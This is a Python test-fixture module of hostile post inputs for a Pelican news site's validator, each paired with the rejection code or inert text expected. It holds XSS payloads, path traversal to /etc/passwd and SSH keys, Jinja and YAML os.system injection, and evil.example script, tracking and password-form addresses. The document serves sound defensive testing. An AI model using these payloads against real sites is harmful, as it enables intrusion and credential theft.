"""What a hostile or careless volunteer commits, case by case, and what must become of each.

A case is one post of city-clinic unless it says otherwise. `code` names the error that keeps it out; without one the
post is published and whatever is hostile in it is dead text. `seen` are words that readers must find on its page.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field

SECRET = "QUPIA-7f3a"
"""Stands in files that no build may publish."""
ORGANIZATION = "city-clinic"
NEWS = f"organizations/{ORGANIZATION}/news"


@dataclass(frozen=True)
class Case:
    name: str
    body: str = "Текст."
    header: str = "title: Новость"
    code: str = ""
    seen: tuple[str, ...] = ()
    raw: bytes | None = None
    """The whole file, instead of header and body."""
    files: Mapping[str, bytes] = field(default_factory=dict)
    """More files, by path below the content folder."""
    path: str = ""
    """Where the problem is told, if not at the post: then there is no post."""


def link(name: str, address: str, code: str) -> Case:
    return Case(f"link {name}", f"[жазу]({address})", code=code)


def picture(name: str, address: str, code: str) -> Case:
    return Case(f"picture {name}", f"![зал]({address})", code=code)


def header(name: str, lines: str, code: str) -> Case:
    return Case(f"header {name}", header=f"title: Новость\n{lines}", code=code)


def stray(name: str, path: str, code: str, data: bytes = b"---\ntitle: QUPIA-7f3a\n---\nQUPIA-7f3a\n") -> Case:
    return Case(f"file {name}", files={path: data}, path=path, code=code)


UP = "../../../../secret.txt"
ENCODED = "%2e%2e/%2e%2e/%2e%2e/%2e%2e/secret.txt"

BOX = (
    # Every form that copies a file of the build machine in plain Pelican.
    link("attach climbs", f"{{attach}}{UP}", "file-outside"),
    link("static climbs", f"{{static}}{UP}", "file-outside"),
    link("static from the root", "{static}/../../secret.txt", "file-absolute"),
    link("attach from the root", "{attach}/secret.txt", "file-absolute"),
    link("filename climbs", "{filename}../../federation/news/2026-11-03-secret.ru.md", "link-outside"),
    link("filename from the root", "{filename}/../secret.ru.md", "link-outside"),
    link("filename of a toml", "{filename}../organization.toml", "file-outside"),
    link("attach percent-encoded", f"{{attach}}{ENCODED}", "file-outside"),
    link("attach with capital per cents", f"{{attach}}{ENCODED.replace('2e', '2E')}", "file-outside"),
    link("attach with an encoded slash", "{attach}..%2f..%2f..%2f..%2fsecret.txt", "file-outside"),
    link("attach with backslashes", "{attach}..\\\\..\\\\..\\\\secret.txt", "file-outside"),
    link("attach with encoded backslashes", "{attach}..%5c..%5csecret.txt", "file-outside"),
    link("attach of a Windows drive", "{attach}C:/Windows/win.ini", "file-absolute"),
    link("attach of a share", "{attach}//server/share/secret.txt", "link-address"),
    link("attach of the environment", "{attach}/proc/self/environ", "file-absolute"),
    link("attach of passwords", "{attach}/etc/passwd", "file-absolute"),
    link("attach of a home", "{attach}~/.ssh/id_rsa", "file-absolute"),
    link("attach within attach", "{attach}{attach}a", "file-absolute"),
    link("plain path that climbs", UP, "file-outside"),
    link("plain path from the middle", "a/../../../secret.txt", "file-outside"),
    link("file address", "file:///etc/passwd", "link-scheme"),
    link("index of Pelican", "{index}", "link-form"),
    link("author of Pelican", "{author}admin", "link-form"),
    link("tag of Pelican", "{tag}a", "link-form"),
    link("old form of Pelican", "|filename|../secret.md", ""),
    link("unknown braces", "{env}PATH", "link-form"),
    link("organization that climbs", "{org:../2026-01-01-a}", "org-link"),
    link("organization with more", "{org:federation/2026-01-01-a/../b}", "org-link"),
    link("address that climbs", "/city-clinic/../../etc/", "link-address"),
    link("address that climbs in code", "/city-clinic/%2e%2e/%2e%2e/", "link-address"),
    link("address with two slashes", "//evil.example/", "link-address"),
    link("address with two slashes inside", "/city-clinic//evil.example/", "link-address"),
    link("address with a backslash", "/\\\\evil.example/", "file-absolute"),
    link("address with a tab", "/&#9;/evil.example/", "link-address"),
    picture("attach climbs", f"{{attach}}{UP}", "file-outside"),
    picture("static climbs", f"{{static}}{UP}", "file-outside"),
    picture("percent-encoded", ENCODED, "file-outside"),
    picture("absolute", "/etc/passwd", "file-absolute"),
    picture("Windows drive", "C:\\\\secret.png", "file-absolute"),
    picture("share", "\\\\\\\\server\\\\share.png", "file-absolute"),
    picture("of another organization", "../../federation/news/hidden.jpg", "file-outside"),
    picture("of another site", "https://evil.example/track.gif", "file-elsewhere"),
    picture("of another site without a scheme", "//evil.example/track.gif", "file-elsewhere"),
    picture("as data", "data:image/svg+xml;base64,PHN2Zz4=", "file-elsewhere"),
    picture("with NUL in code", "hall%00.jpg", "file-missing"),
    picture("that is a text", "2026-11-02-pay.ru.md", "picture-format"),
    header("image climbs", f"image: {UP}", "file-outside"),
    header("image from the root", "image: /etc/passwd", "file-absolute"),
    header("image elsewhere", "image: https://evil.example/a.jpg", "file-elsewhere"),
    # Every header that sets an attribute or an address in plain Pelican.
    header("Save_as of the front page", "Save_as: index.html", "path-key"),
    header("Save_as beside the output", "save_as: ../output-evil/x.html", "path-key"),
    header("Save_as absolute", "save_as: /tmp/x.html", "path-key"),
    header("Template", "Template: ../../../secret", "path-key"),
    header("Slug that climbs", "Slug: a/../../b", "path-key"),
    header("Url", "url: https://evil.example/", "path-key"),
    header("Override_save_as", "Override_save_as: index.html", "path-key"),
    header("Override_url", "override_url: /", "path-key"),
    header("Source_path", "Source_path: /etc/passwd", "path-key"),
    header("Lang", "lang: ../../x", "path-key"),
    header("Category", "category: ../../x", "path-key"),
    header("Organization", "organization: federation", "path-key"),
    header("Date", "date: 2020-01-01", "path-key"),
    header("Translation", "translation: true", "path-key"),
    header("Settings", "Settings: x", "unknown-key"),
    header("Get_content", "Get_content: x", "unknown-key"),
    header("_content", "_content: x", "unknown-key"),
    header("__class__", "__class__: x", "unknown-key"),
    header("content", "content: x", "unknown-key"),
    header("url_format", "url_format: x", "unknown-key"),
    header("id", "id: tag:federation", "unknown-key"),
    header("former name of another", "formerly: [federation/2026-11-01-a]", "former-organization"),
    header("former name that climbs", "formerly: ['../../x']", "former-name"),
    header("former name with a slash", "formerly: ['2026-01-01-a/../../x']", "former-name"),
    header("topic that climbs", "topics: ['../../x']", "unknown-topic"),
    header("card that climbs", "card: ../../x", "unknown-card"),
    header("object of Python", "tags: !!python/object/apply:os.system ['true']", ""),
    # Files that may not stand there.
    stray("HTML", f"{NEWS}/2026-11-03-a.html", "file-type", b"<script>alert(1)</script>QUPIA-7f3a"),
    stray("reStructuredText", f"{NEWS}/2026-11-03-a.rst", "file-type", b".. include:: /etc/passwd\n\nQUPIA-7f3a"),
    stray("second Markdown ending", f"{NEWS}/2026-11-03-a.markdown", "file-type"),
    stray("front page", f"organizations/{ORGANIZATION}/index.html", "wrong-place", b"QUPIA-7f3a"),
    stray("template", f"organizations/{ORGANIZATION}/templates/post.html", "wrong-folder", b"{{ settings }}"),
    stray("script", f"{NEWS}/app.js", "file-type", b"alert('QUPIA-7f3a')"),
    stray("settings", f"organizations/{ORGANIZATION}/pelicanconf.py", "wrong-place", b"raise SystemExit('QUPIA-7f3a')"),
    stray("drawing", f"{NEWS}/a.svg", "file-type", b"<svg onload='alert(1)'>QUPIA-7f3a</svg>"),
    stray("hidden file", f"{NEWS}/.htaccess", "file-name", b"QUPIA-7f3a"),
    stray("git folder", f"{NEWS}/2026-11-03-a/.git/config", "own-repository", b"QUPIA-7f3a"),
    stray("name of a device", f"{NEWS}/con.jpg", "file-name", b"QUPIA-7f3a"),
    stray("name with a colon", f"{NEWS}/a:b.jpg", "file-name", b"QUPIA-7f3a"),
    stray("name with a line end", f"{NEWS}/a\nb.jpg", "file-name", b"QUPIA-7f3a"),
    stray("name with a backslash", f"{NEWS}/..\\..\\a.jpg", "file-name", b"QUPIA-7f3a"),
    stray("name that turns", f"{NEWS}/\u202egpj.a.jpg", "file-name", b"QUPIA-7f3a"),
    stray("name with an unseen mark", f"{NEWS}/a\ufeffb.jpg", "file-name", b"QUPIA-7f3a"),
    stray("name with markup", f"{NEWS}/<img src=x onerror=alert(1)>.jpg", "file-name", b"QUPIA-7f3a"),
    stray("post named in Kazakh", f"{NEWS}/2026-11-03-жаңалық.ru.md", "post-name"),
    stray("post named like a path", f"{NEWS}/2026-11-03-a..b.ru.md", "post-name"),
    stray("post without a day", f"{NEWS}/2026-02-30-a.ru.md", "post-name"),
    stray("post with full-width figures", f"{NEWS}/２０２６-11-03-a.ru.md", "post-name"),
    stray("post of an unknown language", f"{NEWS}/2026-11-03-a.xx.md", "unknown-language"),
    stray("folder too deep", f"{NEWS}/2026-11-03-a/b/c.jpg", "wrong-folder", b"QUPIA-7f3a"),
    stray("organization named like the theme", "organizations/theme/news/2026-11-03-a.ru.md", "organization-name"),
    stray("organization named like a language", "organizations/ru/news/2026-11-03-a.ru.md", "organization-name"),
    stray("organization in capitals", "organizations/Federation/news/2026-11-03-a.ru.md", "organization-name"),
    stray("organization with a homoglyph", "organizations/fedеration/news/2026-11-03-a.ru.md", "organization-name"),
    stray("organization with a dot", "organizations/a.b/news/2026-11-03-a.ru.md", "organization-name"),
    stray("organization named in Unicode", "organizations/ﬁrst-union/news/2026-11-03-a.ru.md", "organization-name"),
)  # fmt: skip

SCRIPT = "<script>alert('QUPIA-7f3a-x')</script>"


def dead(name: str, body: str, *seen: str) -> Case:
    return Case(f"body {name}", body, seen=seen)


def titled(name: str, title: str, *seen: str) -> Case:
    return Case(f"title {name}", header=f"title: '{title}'\nsummary: '{title}'\nauthor: '{title}'", seen=seen)


CLEAN = (
    dead("script", f"Раз {SCRIPT} два", "<script>alert", "Раз", "два"),
    dead("script alone", "<script src=https://evil.example/a.js></script>", "evil.example"),
    dead("script in capitals", "<SCRIPT>alert(1)</SCRIPT>"),
    dead("script torn by Markdown", "<scr*i*pt>alert(1)</script>"),
    dead("script after a comment", "<!-- a --><script>alert(1)</script>"),
    dead("comment that does not end", "<!-- <script>alert(1)</script>"),
    dead("comment of Internet Explorer", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
    dead("CDATA", "<![CDATA[<script>alert(1)</script>]]>", "alert(1)"),
    dead("end of CDATA", "]]> <script>alert(1)</script>"),
    dead("processing", "<?php system('id'); ?>", "system"),
    dead("declaration", "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;", "ENTITY"),
    dead("handler", "<img src=x onerror=alert(1)>", "onerror"),
    dead("handler on a slash", "<svg/onload=alert(1)>", "onload"),
    dead("handler in a title", '[a](https://example.org "x\\" onmouseover=\\"alert(1)")'),
    dead("handler in a picture's text", '![x" onerror="alert(1)](hall.jpg)'),
    dead("handler in a picture's title", '![x](hall.jpg "a\\" onerror=\\"alert(1)")'),
    dead("handler by attributes", "Слово {: onclick=alert(1) }", "onclick"),
    dead("handler by an attribute list", "# Слово { #id onclick=alert(1) }", "onclick"),
    dead("style", "<style>body{display:none}</style>", "display"),
    dead("style attribute", "<p style='position:fixed;inset:0'>x</p>", "position"),
    dead("form", "<form action=https://evil.example><input name=password></form>", "evil.example"),
    dead("button", "<button formaction=javascript:alert(1)>x</button>"),
    dead("frame", "<iframe src=https://evil.example></iframe>", "iframe"),
    dead("frame by srcdoc", "<iframe srcdoc='<script>alert(1)</script>'></iframe>"),
    dead("frameset", "<frameset><frame src=javascript:alert(1)></frameset>"),
    dead("object", "<object data=javascript:alert(1)></object>"),
    dead("embed", "<embed src=javascript:alert(1)>"),
    dead("applet", "<applet code=x></applet>"),
    dead("meta refresh", "<meta http-equiv=refresh content='0;url=https://evil.example'>", "refresh"),
    dead("base", "<base href=https://evil.example/>", "base"),
    dead("link of a sheet", "<link rel=stylesheet href=https://evil.example/a.css>", "stylesheet"),
    dead("svg", "<svg><script>alert(1)</script></svg>"),
    dead("svg animation", "<svg><animate onbegin=alert(1) attributeName=x></svg>"),
    dead("svg foreign object", "<svg><foreignObject><iframe src=x></foreignObject></svg>"),
    dead("math", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    dead("template", "<template><script>alert(1)</script></template>"),
    dead("noscript", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>"),
    dead("text area", "</textarea><script>alert(1)</script>"),
    dead("end of the page", "</article></main></body></html><script>alert(1)</script>"),
    dead("marquee", "<marquee onstart=alert(1)>x</marquee>"),
    dead("details", "<details open ontoggle=alert(1)>x</details>"),
    dead("video", "<video><source onerror=alert(1)></video>"),
    dead("portal", "<portal src=https://evil.example>"),
    dead("DOM clobbering by id", "<a id=document>x</a><a id=cookie name=getElementById>x</a>", "document"),
    dead("DOM clobbering by footnote", "Текст[^document].\n\n[^document]: Сноска", "Сноска"),
    dead("DOM clobbering by name", "<img name=body><form id=location>"),
    dead("custom element", "<x-a onclick=alert(1)>x</x-a>"),
    dead("null in a tag", "<scr\ufffdipt>alert(1)</script>"),
    dead("entity of a script", "&lt;script&gt;alert(1)&lt;/script&gt;", "<script>"),
    dead("entity twice", "&amp;lt;script&amp;gt;alert(1)", "alert(1)"),
    dead("entity in figures", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    dead("entity in hex", "&#x3c;script&#x3e;alert(1)"),
    dead("code", "`<script>alert(1)</script>`", "<script>alert(1)</script>"),
    dead("fence", "```html\n<script>alert(1)</script>\n```", "<script>alert(1)</script>"),
    dead("fence with a class", '``` "><script>alert(1)</script>\nx\n```'),
    dead("table", "a | b\n--|--\n<script>alert(1)</script> | <u>x</u>", "<u>x</u>"),
    dead("definition", "<i>а</i>\n: <script>alert(1)</script>"),
    dead("abbreviation", 'XSS\n\n*[XSS]: x" onmouseover="alert(1)'),
    dead("box of facts", '!!! facts "<script>alert(1)</script>"\n    <img src=x onerror=alert(1)>', "<script>"),
    dead("box of another kind", '!!! danger "x" onclick=alert(1)\n    Текст'),
    dead("video address", 'https://www.youtube.com/watch?v="><script>alert(1)</script>'),
    dead("heading of the first level", "# Большой\n\n###### Малый", "Большой"),
    dead("stash of Markdown", "wzxhzdk:0 klzzwxh:0000 amp", "klzzwxh:0000"),
    dead("Jinja", "{{ settings }} {% include '/etc/passwd' %} {{ 7*7 }} {# x #}", "{{ 7*7 }}"),
    dead("Jinja that calls", "`{{ ''.__class__.__mro__[1] }}` {{ cycler.x }}", "__mro__", "{{ cycler.x }}"),
    dead("format string", "{0.__class__} %(settings)s ${HOME} $(id)", "${HOME}"),
    dead("include", "{!../../../../secret.txt!}", "secret.txt"),
    dead("include of reStructuredText", ".. include:: ../../../../secret.txt", ".. include::"),
    dead("raw of reStructuredText", ".. raw:: html\n   :file: ../../../../secret.txt", ".. raw::"),
    dead("include of another Markdown", '--8<-- "../../../../secret.txt"', "secret.txt"),
    dead("link reference", "[a][b]\n\n[b]: https://example.org \"x' onclick='alert(1)\"", "a"),
    dead("link with a password", "[банк](https://bank.example@evil.example/)", "банк"),
    dead("homoglyphs in a link", "[банк](https://xn--pypal-4ve.example/)", "банк"),
    dead("homoglyphs written out", "[a](https://раураl.example/)", "a"),
    dead("bidi in a body", "exe\u202egpj.txt и \u2066текст\u2069"),
    dead("zero width", "па\u200bро\u200dль\u2060"),
    dead("many marks on a letter", "а" + "\u0301" * 60),
    link("javascript", "javascript:alert(1)", "link-scheme"),
    link("JavaScript in capitals", "JaVaScRiPt:alert(1)", "link-scheme"),
    link("javascript with an entity", "javascript&#58;alert(1)", "link-scheme"),
    link("javascript with a named entity", "javascript&colon;alert(1)", "link-scheme"),
    link("javascript after an entity", "&#106;avascript:alert(1)", "link-scheme"),
    link("javascript with a tab", "java&#9;script:alert(1)", "file-missing"),
    link("javascript with per cent", "javascript%3Aalert(1)", "file-missing"),
    link("javascript after a control", "&#1;javascript:alert(1)", "link-scheme"),
    link("vbscript", "vbscript:msgbox(1)", "link-scheme"),
    link("data", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "link-scheme"),
    link("blob", "blob:https://example.org/a", "link-scheme"),
    link("view-source", "view-source:javascript:alert(1)", "link-scheme"),
    link("intent", "intent://x#Intent;scheme=javascript;end", "link-scheme"),
    link("web address without a host", "https:javascript:alert(1)", "link-address"),
    link("web address with a bracket", "https://[javascript:alert(1)]", "link-address"),
    Case("autolink javascript", "<javascript:alert(1)>"),
    Case("reference javascript", "[a][b]\n\n[b]: javascript:alert(1)", code="link-scheme"),
    titled("script", "<script>alert(1)</script>", "<script>alert(1)</script>"),
    titled("end of a script", "</script><script>alert(1)</script>", "</script>"),
    titled("end of a title", "</title><img src=x onerror=alert(1)>", "</title>"),
    titled("attribute", '" onmouseover="alert(1)', "onmouseover"),
    titled("entities", "&lt;script&gt; &amp;amp; &#60;b&#62;", "&lt;script&gt;"),
    titled("end of CDATA", "]]><script>alert(1)</script>", "]]>"),
    titled("comment", "<!-- --><b>", "<!--"),
    titled("ampersands", "AT&T <3 «Труд» & K°", "AT&T"),
    titled("Jinja", "{{ settings }}{% raw %}", "{{ settings }}"),
    titled("JSON", '\\","@type":"Person"}</script>', "@type"),
    titled("line separators", "а\u2028б\u2029в"),
    titled("drawing", "<svg><text>x</text></svg>", "<svg>"),
    titled("markup of cards", '<span foreground="red">&</span>', "<span"),
    Case("tags with markup", header="title: Новость\ntags: ['<script>alert(1)</script>', ']]>', '&amp;']"),
    Case("place with markup", header="title: Новость\nkind: event\nstarts: 2026-12-01 10:00\nplace: '</script><b>'"),
    Case("correction with markup", header="title: Новость\ncorrection: '<img src=x onerror=alert(1)>'"),
    Case("share title with markup", header="title: Новость\nshare_title: '\"><script>alert(1)</script>'"),
    Case("card text with markup", header="title: Новость\ncard: quote\ncard_text: '<script>alert(1)</script>'"),
)  # fmt: skip

EARLY = tuple(
    Case(f"early {name}", f"Текст {SECRET}", header=f"title: {SECRET}\ntags: [{SECRET}]\nsummary: {SECRET}\n{lines}")
    for name, lines in (
        ("draft", "status: draft"),
        ("draft that is urgent", "status: draft\nurgent_until: 2026-12-30 10:00"),
        ("draft in capitals", "status: DRAFT"),
        ("draft with spaces", "status: '  draft  '"),
        ("publish_at", "publish_at: 2026-11-20 12:00:01"),
        ("publish_at of another zone", "publish_at: 2026-11-19 23:59:59-08:00"),
        ("embargo", "embargo: 2026-11-30 10:00"),
        ("embargo of one second", "embargo: 2026-11-20 12:00:01+05:00"),
        ("embargo after publish_at", "publish_at: 2026-11-01 10:00\nembargo: 2026-11-30 10:00"),
        ("publish_at after embargo", "embargo: 2026-11-01 10:00\npublish_at: 2026-11-30 10:00"),
        ("former names", "embargo: 2026-11-30 10:00\nformerly: [2026-11-01-qupia-7f3a-old]"),
        ("urgent", "embargo: 2026-11-30 10:00\nurgent_until: 2026-12-30 10:00"),
        ("event", "embargo: 2026-11-30 10:00\nstarts: 2026-11-21 10:00\nplace: QUPIA-7f3a"),
        ("unknown status", "status: pubslished"),
        ("error in the header", "embargo: tomorrow"),
        ("error in a hidden one", "status: hidden\nsumary: x"),
        ("embargo in another month", "embargo: 2027-11-30 10:00"),
        ("withdrawn", "status: withdrawn\ncorrection: Ошибка."),
    )
)

BOUNDS = (
    Case("bound size", ("слово " * 25 + "\n\n") * 700, code="post-size"),
    Case("bound line", "слово " * 2_000, code="line-length"),
    Case("bound lines", "\n\n".join("а" for _ in range(2_600)), code="too-many-lines"),
    Case("bound block", "а\n" * 1_100, code="block-length"),
    Case("bound brackets", "[" * 20, code="nesting"),
    Case("bound labels", "[a" * 50 + "]" * 50, code="nesting"),
    Case("bound quotations", "> " * 20 + "а", code="nesting"),
    Case("bound lists", "- " * 20 + "а", code="nesting"),
    Case("bound lists over lines", "".join("    " * n + "- а\n" for n in range(30)), code="nesting"),
    Case("bound run of stars", "*" * 101),
    Case("bound run of backticks", "`" * 101, code="punctuation-run"),
    Case("bound pictures", "![" * 201, code="too-many-pictures"),
    Case("bound emphasis", ("*a" * 90 + "\n\n") * 112, code="too-many-marks"),
    Case("bound escapes", ("\\*" * 90 + "\n\n") * 56, code="too-many-marks"),
    Case("bound links", ("[a](b) " * 40 + "\n\n") * 51, code="too-many-links"),
    Case("bound references", ("[^a] " * 40 + "\n\n") * 51, code="too-many-links"),
    Case("bound CDATA", "<![CDATA[" * 501, code="too-many-pictures"),
    Case("bound autolinks", ("<http://" * 40 + "\n\n") * 51, code="too-many-links"),
    Case("bound abbreviations", "".join(f"*[a{n}]: b\n" for n in range(1_001)), code="block-length"),
    header("title too long", f"share_title: {'а' * 201}", "title-length"),
    header("tags", f"tags: [{', '.join(f't{n}' for n in range(51))}]", "too-many-tags"),
    header("billion laughs", "a: &a [x]\nb: &b [*a, *a]\ntags: *b", "unknown-key"),
    header("anchor", "topics: &a [x, *a]", "unknown-topic"),
    header("merge", "<<: &a {title: x}", "header-line"),
    header("flow in flow", "a: " + "{a: " * 20, "unknown-key"),
    header("indicators", "- " * 20, "header-line"),
    header("questions", "? " * 20, "header-line"),
    header("many keys", "\n".join(f"key{n}: a" for n in range(300)), "header-size"),
    header("long value", "summary: >\n" + "  слово слово\n" * 400, "header-size"),
    header("not closed quotation", "kind: 'а", "unknown-kind"),
    header("two documents", "...\n---\ntitle: x", ""),
    header("tab", "\tsummary: а", "header-indent"),
    header("key twice", "title: Другой", "double-key"),
    header("list in a list", "tags: [[a], b]", "header-value"),
    header("mapping as a value", "kind: {a: b}", "unknown-kind"),
    header("key that is a list", "[a]: b", "header-line"),
    Case("not UTF-8", raw=b"---\ntitle: \xff\xfe\n---\n\nQUPIA-7f3a\n", code="encoding"),
    Case("UTF-16", raw="---\ntitle: А\n---\n".encode("utf-16"), code="encoding"),
    Case("UTF-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", seen=("+ADw-script",)),
    Case("overlong UTF-8", raw=b"---\ntitle: a\n---\n\n\xc0\xbcscript\xc0\xbe\n", code="encoding"),
    Case("surrogate", raw=b"---\ntitle: a\n---\n\n\xed\xa0\x80\n", code="encoding"),
    Case("NUL", "а\0б", code="encoding"),
    Case("backspace in a body", "а\x08б", code="control-character"),
    Case("backspace in a title", header="title: а\x08б", code="control-character"),
    Case("escape of a terminal", "\x1b]0;title\x07", code="control-character"),
    Case("C1 control", "а\x9bб", code="control-character"),
    Case("noncharacter", "а\uffffб", code="control-character"),
    Case("noncharacter of Arabic", "а\ufdd0б", code="control-character"),
    Case("only a header", raw=b"---\ntitle: a\n", code="header-not-closed"),
    Case("nothing but a rule", raw=b"---\n---\n---\n", code="title-missing"),
    Case("post as a JPEG", raw=b"\xff\xd8\xff\xe0" + bytes(range(256)), code="encoding"),
    Case("empty title", header="title: ''", code="title-missing"),
)  # fmt: skip
